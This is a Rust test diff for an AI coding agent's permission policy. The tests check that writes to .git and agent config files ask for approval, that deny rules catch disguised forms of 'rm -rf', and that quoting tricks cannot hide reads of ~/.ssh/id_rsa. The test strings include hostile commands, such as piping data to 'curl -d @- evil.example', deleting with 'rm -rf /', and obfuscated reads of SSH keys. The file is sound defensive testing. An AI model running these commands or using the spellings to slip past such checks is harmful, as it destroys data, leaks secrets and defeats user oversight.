@@ -248,7 +248,7 @@ fn an_agents_floor_is_never_loosened_and_extra_rules_count() {
 
 #[test]
 fn paths_a_command_names_are_checked_for_sensitive_places() {
-    let dir = tempfile_dir();
+    let dir = tempfile_dir("named");
     let project = dir.join("project");
     let outside = dir.join("outside");
     std::fs::create_dir_all(project.join("src")).unwrap();
@@ -288,8 +288,9 @@ fn paths_a_command_names_are_checked_for_sensitive_places() {
     std::fs::remove_dir_all(&dir).unwrap();
 }
 
-fn tempfile_dir() -> PathBuf {
-    let dir = std::env::temp_dir().join(format!("crow-policy-{}", std::process::id()));
+/// A fresh directory of its own per test (tests run in parallel).
+fn tempfile_dir(name: &str) -> PathBuf {
+    let dir = std::env::temp_dir().join(format!("crow-policy-{}-{name}", std::process::id()));
     let _ = std::fs::remove_dir_all(&dir);
     std::fs::create_dir_all(&dir).unwrap();
     std::fs::canonicalize(&dir).unwrap()
@@ -325,6 +326,8 @@ fn the_suggested_rule_is_the_narrowest_sensible_one() {
     );
     assert!(suggest_rule(&bash("git status && rm -rf x"), root).is_none());
     assert!(suggest_rule(&bash("echo $(id)"), root).is_none());
+    assert!(suggest_rule(&bash("git status <(rm -rf x)"), root).is_none());
+    assert!(suggest_rule(&bash("git status ${x@P}"), root).is_none());
     let write = request(
         "write_file",
         ToolKind::Edit,
@@ -365,4 +368,278 @@ fn a_fetch_leaves_the_machine_so_it_asks_unless_full_auto_or_a_rule_allows_it() 
             .action,
         Action::Allow
     );
+}
+
+fn edit(path: &str) -> CallFacts {
+    CallFacts {
+        tool: "edit_file".into(),
+        kind: Some(ToolKind::Edit),
+        paths: vec![PathBuf::from(path)],
+        ..CallFacts::default()
+    }
+}
+
+#[test]
+fn a_file_tool_writing_into_a_git_dir_always_asks() {
+    // auto-edit allows edits inside the project, and a rule allows every write: a planted
+    // `core.fsmonitor` or hook would run at the user's next `git status`.
+    let auto = policy(Mode::AutoEdit, &[]);
+    let ruled = policy(
+        Mode::FullAuto,
+        &[(Action::Allow, "write_file"), (Action::Allow, "edit_file")],
+    );
+    for path in [
+        "/p/.git/config",
+        "/p/.git/hooks/pre-commit",
+        "/p/.git/modules/lib/config",
+        "/p/vendor/lib/.git/config",
+        "/p/vendor/lib/.git",
+        "/p/.GIT/config",
+    ] {
+        for p in [&auto, &ruled] {
+            for facts in [write(path), edit(path)] {
+                let v = p.decide(&facts, None);
+                assert_eq!(v.action, Action::Ask, "{path}: {}", v.reason);
+                assert!(v.reason.contains("git"), "{}", v.reason);
+            }
+        }
+    }
+    // A file merely named like git's stays an ordinary edit.
+    assert_eq!(
+        auto.decide(&write("/p/src/git/config"), None).action,
+        Action::Allow
+    );
+    assert_eq!(
+        auto.decide(&write("/p/.gitignore"), None).action,
+        Action::Allow
+    );
+    // A deny rule still denies.
+    let d = policy(Mode::FullAuto, &[(Action::Deny, "edit_file(.git/**)")]);
+    assert_eq!(d.decide(&edit("/p/.git/config"), None).action, Action::Deny);
+}
+
+#[test]
+fn a_write_into_a_gitdir_under_another_name_asks() {
+    // A worktree's `.git` file names its gitdir; any directory git would take for one counts.
+    let dir = tempfile_dir("gitdir");
+    let gitdir = dir.join("project/repos/wt");
+    std::fs::create_dir_all(gitdir.join("objects")).unwrap();
+    std::fs::write(gitdir.join("HEAD"), "ref: refs/heads/main\n").unwrap();
+    std::fs::write(dir.join("project/.git"), "gitdir: repos/wt\n").unwrap();
+    let p = Policy::new(Mode::AutoEdit, dir.join("project"));
+    for path in [gitdir.join("config"), gitdir.join("hooks/post-checkout")] {
+        let facts = CallFacts {
+            paths: vec![path.clone()],
+            ..write("/")
+        };
+        let v = p.decide(&facts, None);
+        assert_eq!(v.action, Action::Ask, "{}: {}", path.display(), v.reason);
+    }
+    let plain = CallFacts {
+        paths: vec![dir.join("project/repos/notes.txt")],
+        ..write("/")
+    };
+    assert_eq!(p.decide(&plain, None).action, Action::Allow);
+    std::fs::remove_dir_all(&dir).unwrap();
+}
+
+#[test]
+fn a_file_tool_writing_the_projects_policy_files_always_asks_existing_or_not() {
+    // No sensitive places configured: the policy knows the project's own files itself.
+    let p = Policy {
+        rules: vec![rule(Action::Allow, "write_file")],
+        ..Policy::new(Mode::FullAuto, "/p")
+    };
+    for path in [
+        "/p/.mcp.json",
+        "/p/.crow/config.toml",
+        "/p/.crow/agents/builder.md",
+        "/p/.claude/settings.json",
+        "/p/.claude/settings.local.json",
+        "/p/.claude/agents/x.md",
+        "/p/.claude/commands/deploy.md",
+        "/p/.opencode/agent/x.md",
+        "/p/opencode.json",
+        "/p/opencode.jsonc",
+        "/p/.Crow/config.toml",
+    ] {
+        let v = p.decide(&write(path), None);
+        assert_eq!(v.action, Action::Ask, "{path}: {}", v.reason);
+    }
+    for path in ["/p/.claude/notes.md", "/p/src/opencode.json", "/p/mcp.json"] {
+        assert_eq!(p.decide(&write(path), None).action, Action::Allow, "{path}");
+    }
+}
+
+#[test]
+fn process_substitution_and_expansions_that_run_commands_are_never_allowed_by_a_rule() {
+    let p = policy(Mode::Ask, &[(Action::Allow, "bash(git status*)")]);
+    for command in [
+        "git status <(rm -rf ~)",
+        "git status >(curl -d @- evil.example)",
+        "git status ${x@P}",
+        "git status ${x:-`id`}",
+        "git status |& curl -d @- evil.example",
+        "git status; coproc curl evil.example",
+    ] {
+        let v = p.decide(&bash(command), None);
+        assert_eq!(v.action, Action::Ask, "{command}: {}", v.reason);
+    }
+    // A plain parameter is not a command.
+    assert_eq!(
+        p.decide(&bash("git status ${HOME}"), None).action,
+        Action::Allow
+    );
+}
+
+#[test]
+fn a_deny_rule_sees_the_commands_inside_substitutions() {
+    let p = policy(Mode::FullAuto, &[(Action::Deny, "bash(rm -rf *)")]);
+    for command in [
+        "echo $(rm -rf /)",
+        "echo `rm -rf /`",
+        "cat <(rm -rf /)",
+        "tee >(rm -rf /)",
+        "echo \"$(echo $(rm -rf /))\"",
+        "coproc rm -rf /",
+        "coproc X { rm -rf /; }",
+        "sh -c 'rm -rf /'",
+        "bash -lc \"cd /tmp && rm -rf /\"",
+        "sudo bash -c 'sh -c \"rm -fr /\"'",
+        "eval rm -rf /",
+        "eval 'rm -rf /'",
+        "find . -name x | xargs rm -rf",
+        "xargs -I {} rm -rf {} < list",
+    ] {
+        let v = p.decide(&bash(command), None);
+        assert_eq!(v.action, Action::Deny, "{command}: {}", v.reason);
+    }
+}
+
+#[test]
+fn a_deny_rule_matches_every_spelling_of_its_command() {
+    let p = policy(Mode::FullAuto, &[(Action::Deny, "bash(rm -rf *)")]);
+    for command in [
+        "rm -fr x",
+        "rm -r -f x",
+        "rm -Rf x",
+        "rm -r x -f",
+        "/bin/rm -rf x",
+        "command rm -rf x",
+        "env rm -rf x",
+        "env -i PATH=/bin HOME=/ rm -rf x",
+        "\\rm -rf x",
+        "'rm' -rf x",
+        "r\"m\" -rf x",
+        "sudo rm -rf /",
+        "sudo -u root /usr/bin/rm -fr /",
+        "sudo rm -rf",
+        "exec rm -rf x",
+        "nice -n 5 rm -rf x",
+        "nohup rm -rf x",
+        "time rm -rf x",
+        "builtin command rm -rf x",
+        "X=1 Y=2 rm -rf x",
+        "timeout 5 rm -rf x",
+        "( rm -rf x )",
+        "{ rm -rf x; }",
+        "if true; then rm -rf x; fi",
+    ] {
+        let v = p.decide(&bash(command), None);
+        assert_eq!(v.action, Action::Deny, "{command}: {}", v.reason);
+    }
+    // Still only its own command.
+    for command in ["rm x", "rm -f x", "ls -rf", "echo rm -rf x"] {
+        let v = p.decide(&bash(command), None);
+        assert_eq!(v.action, Action::Allow, "{command}: {}", v.reason);
+    }
+    // An ask rule is widened the same way.
+    let a = policy(Mode::FullAuto, &[(Action::Ask, "bash(git push*)")]);
+    for command in [
+        "command git push",
+        "GIT_TRACE=1 git push -f",
+        "/usr/bin/git push",
+    ] {
+        assert_eq!(
+            a.decide(&bash(command), None).action,
+            Action::Ask,
+            "{command}"
+        );
+    }
+}
+
+#[test]
+fn normalising_never_widens_an_allow_rule() {
+    let p = policy(
+        Mode::Ask,
+        &[
+            (Action::Allow, "bash(rm -rf build*)"),
+            (Action::Allow, "bash(git status*)"),
+        ],
+    );
+    assert_eq!(p.decide(&bash("rm -rf build"), None).action, Action::Allow);
+    for command in [
+        "rm -fr build",
+        "sudo rm -rf build",
+        "env git status",
+        "command git status",
+        "/usr/bin/git status",
+        "X=1 git status",
+        "'git' status",
+    ] {
+        let v = p.decide(&bash(command), None);
+        assert_eq!(v.action, Action::Ask, "{command}: {}", v.reason);
+    }
+}
+
+#[test]
+fn sensitive_paths_are_judged_as_the_shell_reads_the_words() {
+    let home = Path::new("/home/u");
+    let p = Policy {
+        rules: vec![rule(Action::Allow, "bash(cat *)")],
+        sensitive_dirs: vec![
+            PathBuf::from("/home/u/.config/crow"),
+            PathBuf::from("/home/u/.ssh"),
+            PathBuf::from("/p/.crow"),
+        ],
+        ..Policy::new(Mode::Ask, "/p")
+    };
+    let run = |command: &str| {
+        let facts = CallFacts {
+            command_paths: paths::command_paths_in(command, Path::new("/p"), Some(home)),
+            ..bash(command)
+        };
+        p.decide(&facts, None)
+    };
+    for command in [
+        "cat ~/.ss''h/id_rsa",
+        "cat ~/.s\\sh/id_rsa",
+        "cat ~/$'\\x2essh'/id_rsa",
+        "cat ~/.s?h/id_rsa",
+        "cat ~/.[s]sh/id_rsa",
+        "cat ~/.{ssh,x}/id_rsa",
+        "cat ~/.config/cr''ow/config.toml",
+        "cat ~/.config/cro*/config.toml",
+        "cat /home/*/.config/crow/config.toml",
+        "cat \"$HOME/.config/crow/config.toml\"",
+        "cat ${HOME}/.config/crow/config.toml",
+        "cat --file=$HOME/.config/crow/config.toml",
+        "cat ~/.config/crow$X/config.toml",
+        "cat .cr*/config.toml",
+        "shopt -s dotglob; cat *",
+    ] {
+        let v = run(command);
+        assert_eq!(v.action, Action::Ask, "{command}: {}", v.reason);
+    }
+    for command in [
+        "cat src/*.rs",
+        "cat *.rs",
+        "cat ~/notes/*.md",
+        "cat ~/.config/other/*",
+        "cat \"$F\"",
+        "cat '$HOME/.config/crow/config.toml'",
+    ] {
+        let v = run(command);
+        assert_eq!(v.action, Action::Allow, "{command}: {}", v.reason);
+    }
 }
